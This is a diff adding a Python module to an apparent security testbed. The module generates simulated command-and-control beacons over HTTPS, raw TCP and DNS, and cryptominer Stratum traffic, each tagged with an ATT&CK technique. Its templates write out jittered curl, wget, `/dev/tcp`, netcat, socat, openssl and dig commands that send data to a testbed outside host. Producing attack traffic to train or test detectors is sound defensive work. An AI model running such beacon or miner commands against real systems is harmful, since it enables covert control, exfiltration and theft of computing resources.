@@ -1,0 +1,156 @@
+"""Implants that call home again and again: periods, jitter, protocols, payloads and user agents are drawn."""
+
+from testbed.attacks.material import (INSIDE, drop, blob, listening, maybe, program, repeat, text, user_agent, words,
+                                      zone_server)
+from testbed.attacks.tunnels import through_names
+from testbed.catalogue import Assault, attack
+
+WEB = "T1071.001"
+BARE = "T1095"
+DNS = "T1071.004"
+
+
+def rhythm(c) -> tuple[int, float, float]:
+    """How many seconds it goes on, the period in seconds, and by which share it varies."""
+    return c.between(80, 150), c.choose(2.0, 3.0, 4.0, 5.0, 7.0, 10.0, c.between(2.0, 12.0)), c.choose(0, 0, 0.1, 0.25, 0.5)
+
+
+def path(c) -> str:
+    return c.choose("/api/v2/check", "/api/status", "/t.gif", "/search", f"/u/{c.between(1, 10**8):x}", "/ping", "/jquery.js",
+                    "/submit.php", "/updates", f"/{c.between(1, 10**9):x}.html", "/ca", "/__utm.gif")
+
+
+@attack("c2_beacon_https", technique=WEB, tool="curl", origins=INSIDE, packages=("curl",), seconds=170)
+def curl_beacon(c):
+    end, (seconds, period, jitter) = drop(c, c.choose("https", "https", "https", "http")), rhythm(c)
+    check = words(f"curl -sk -m 8 -A '{user_agent(c)}'", maybe(c, 0.5, "--http1.1"),
+                  c.choose("", f"-d id={c.between(1, 10**12):x}", f"-b s={c.between(1, 10**15):x}", '-H "X-Id: $RANDOM$RANDOM"'),
+                  f"-o /dev/null {end.url}{path(c)}")
+    report = f"[ $((RANDOM % {c.between(6, 16)})) = 0 ] && {blob(c.between(800, 20000))} | curl -sk -m 8 -T - -o /dev/null {end.url}/up"
+    return Assault(repeat(c, seconds, f"{check}; {report}" if c.chance(0.4) else check, period, jitter), **end.assault)
+
+
+@attack("c2_beacon_https", technique=WEB, tool="wget", origins=INSIDE, packages=("wget",), seconds=170)
+def wget_beacon(c):
+    end, (seconds, period, jitter) = drop(c, c.choose("https", "https", "http")), rhythm(c)
+    post = maybe(c, 0.4, f"--post-data id={c.between(1, 10**12):x}")
+    return Assault(repeat(c, seconds, words("wget -q -T 8 -t 1 --no-check-certificate", f"-U '{user_agent(c)}'", post,
+                                               f"-O /dev/null {end.url}{path(c)}"), period, jitter), **end.assault)
+
+
+@attack("c2_beacon_https", technique=WEB, tool="openssl", origins=INSIDE, packages=("openssl",), seconds=170)
+def openssl_beacon(c):
+    end, (seconds, period, jitter) = drop(c, "https"), rhythm(c)
+    size = c.between(24, 600)
+    ask = (f"(body=$({text(size)}); printf 'POST {path(c)} HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s' ${{#body}} $body; sleep 0.5) |"
+           f" timeout 6 openssl s_client -quiet {c.choose('', '-tls1_2')} -connect {end.address}:{end.port} >/dev/null 2>&1")
+    return Assault(repeat(c, seconds, ask, period, jitter), **end.assault)
+
+
+def implant(c, kind: str) -> Assault:
+    """The testbed's own implant, which holds its connection or opens one for each call."""
+    end, (seconds, period, jitter) = drop(c, kind), rhythm(c)
+    low = c.between(8, 400)
+    return Assault(words(program("beacon.py", end.url + (path(c) if kind.startswith("http") else ""), "--seconds", seconds, "--period",
+                                 period, "--jitter", jitter, "--payload", low, low + c.choose(0, 20, 300), "--seed",
+                                 c.between(1, 10**6)), f"--agent '{user_agent(c)}'", c.choose("--keep", "", "")), **end.assault)
+
+
+@attack("c2_beacon_https", technique=WEB, tool="beacon.py", origins=INSIDE, packages=("python3",), seconds=170)
+def python_beacon(c):
+    return implant(c, c.choose("https", "https", "http"))
+
+
+@attack("c2_beacon_tcp", technique=BARE, tool="beacon.py", origins=INSIDE, packages=("python3",), seconds=170)
+def python_bare_beacon(c):
+    return implant(c, c.choose("tcp", "tls"))
+
+
+@attack("c2_beacon_tcp", technique=BARE, tool="ncat", origins=INSIDE, packages=("ncat",), seconds=170)
+def ncat_beacon(c):
+    kind = c.choose("tcp", "tls")
+    end = drop(c, kind)
+    return bare(c, end, words("timeout 5 ncat -w2 --send-only", "--ssl" if kind == "tls" else "", f"{end.address} {end.port}"))
+
+
+@attack("c2_beacon_tcp", technique=BARE, tool="bash", origins=INSIDE, seconds=170)
+def bash_beacon(c):
+    end = drop(c, "tcp")
+    return bare(c, end, f'timeout 5 bash -c "cat > /dev/tcp/{end.address}/{end.port}"')
+
+
+@attack("c2_beacon_tcp", technique=BARE, tool="netcat", origins=INSIDE, packages=("netcat-openbsd",), seconds=170)
+def netcat_beacon(c):
+    end = drop(c, "tcp")
+    return bare(c, end, f"timeout 5 nc.openbsd -q{c.choose(0, 1)} -w2 {end.address} {end.port}")
+
+
+@attack("c2_beacon_tcp", technique=BARE, tool="socat", origins=INSIDE, packages=("socat",), seconds=170)
+def socat_beacon(c):
+    end, (seconds, period, jitter) = drop(c, "tcp"), rhythm(c)
+    if c.chance(0.5):
+        held = repeat(c, seconds, blob(c.between(8, 300)), period, jitter)
+        return Assault(f"({held}) | socat -u - TCP:{end.address}:{end.port}", variant="one connection", **end.assault)
+    return bare(c, end, f"timeout 5 socat -u - TCP:{end.address}:{end.port}")
+
+
+def bare(c, end, send: str) -> Assault:
+    """Sends a few bytes at each call."""
+    seconds, period, jitter = rhythm(c)
+    return Assault(repeat(c, seconds, f"head -c $(({c.between(8, 200)} + RANDOM % {c.between(1, 90)})) /dev/urandom | {send}",
+                          period, jitter), **end.assault)
+
+
+def beacon_zone(c) -> tuple[str, dict, str]:
+    zone = c.choose(*c.conventions.zones)
+    return (zone, *zone_server(c, program("zone.py", "--zone", zone, "--seed", c.between(1, 10**6))))
+
+
+@attack("c2_beacon_dns", technique=DNS, tool="dig", origins=INSIDE, needs=("dns",), packages=("bind9-dnsutils",), seconds=170)
+def dig_beacon(c):
+    (zone, fields, ready), (seconds, period, jitter) = beacon_zone(c), rhythm(c)
+    name = c.choose(f"$(head -c {c.between(4, 20)} /dev/urandom | od -An -tx1 | tr -d ' \\n')",
+                    f"{c.between(1, 10**9):x}.$RANDOM", f"$(date +%s).{c.between(1, 10**6):x}")
+    kind = c.choose("TXT", "A", "AAAA", "CNAME", "MX")
+    return Assault(ready + repeat(c, seconds, f"dig +tries=1 +time=2 +short {kind} {name}.{zone}", period, jitter),
+                   evidence=through_names(c, zone), variant=kind, **fields)
+
+
+@attack("c2_beacon_dns", technique=DNS, tool="getent", origins=INSIDE, needs=("dns",), packages=("libc-bin",), seconds=170)
+def getent_beacon(c):
+    (zone, fields, ready), (seconds, period, jitter) = beacon_zone(c), rhythm(c)
+    return Assault(ready + repeat(c, seconds, f"getent ahostsv4 {c.between(1, 10**9):x}-$RANDOM.{zone}", period, jitter),
+                   evidence=through_names(c, zone), **fields)
+
+
+@attack("c2_beacon_dns", technique=DNS, tool="names.py", origins=INSIDE, needs=("dns",), packages=("python3",), seconds=170)
+def names_beacon(c):
+    (zone, fields, ready), (seconds, period, jitter) = beacon_zone(c), rhythm(c)
+    send = program("names.py", "--zone", zone, "--server", c.network.resolver, "--bytes", c.between(8, 40), "--label",
+                   c.between(16, 40), "--labels", 1, "--type", c.choose("TXT", "A", "NULL", "MX"), "--seed", "$RANDOM")
+    return Assault(ready + repeat(c, seconds, send, period, jitter), evidence=through_names(c, zone), **fields)
+
+
+@attack("cryptomine_stratum", technique="T1496", tool="stratum.py", origins=INSIDE, packages=("python3",), seconds=170)
+def python_miner(c):
+    return mining(c, lambda address, port, seconds: program(
+        "stratum.py", "miner", "--pool", address, "--port", port, "--seconds", seconds, "--pause", c.between(2.0, 12.0),
+        "--worker", f"{c.choose('rig', 'w', 'box')}{c.between(1, 99)}", "--seed", c.between(1, 10**6),
+        c.choose("", "--login")))
+
+
+@attack("cryptomine_stratum", technique="T1496", tool="ncat", origins=INSIDE, packages=("ncat",), seconds=170)
+def ncat_miner(c):
+    greeting = ('{"id":1,"method":"mining.subscribe","params":["' + c.choose("cpuminer/2.5.1", "xmr-stak/2.10", "sgminer/5.6")
+                + '"]}')
+    share = ('{"id":%s,"method":"mining.submit","params":["w' + str(c.between(1, 99)) + '","%s","%s"]}\\n')
+    submit = f"printf '{share}' $RANDOM $RANDOM $(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \\n')"
+    return mining(c, lambda address, port, seconds: f"(echo '{greeting}'; "
+                  f"{repeat(c, seconds, submit, c.between(2.0, 12.0), 0.4)}) | ncat {address} {port} >/dev/null")
+
+
+def mining(c, work) -> Assault:
+    """A miner and the pool that it works for."""
+    port, outside = c.choose(3333, 4444, 5555, 7777, 14444, c.between(10000, 40000)), c.network.outside
+    pool = program("stratum.py", "pool", "--port", port, "--pause", c.between(8.0, 40.0), "--seed", c.between(1, 10**6))
+    return Assault(work(outside.address, port, c.between(80, 150)), **listening(f"exec {pool}", outside))
